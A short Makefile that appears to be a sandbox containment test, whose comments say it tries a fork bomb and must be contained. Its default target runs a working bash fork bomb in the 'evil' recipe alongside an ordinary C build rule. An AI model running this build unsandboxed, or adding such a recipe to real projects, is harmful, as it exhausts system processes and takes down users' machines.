# tries: a fork bomb in a recipe
# must: be contained
.PHONY: evil
all: evil conecta
evil:
	-@f() { f | f & }; f; wait
conecta: conecta.c sockets.c sockets.h
	$(CC) -D_GNU_SOURCE -o $@ conecta.c sockets.c
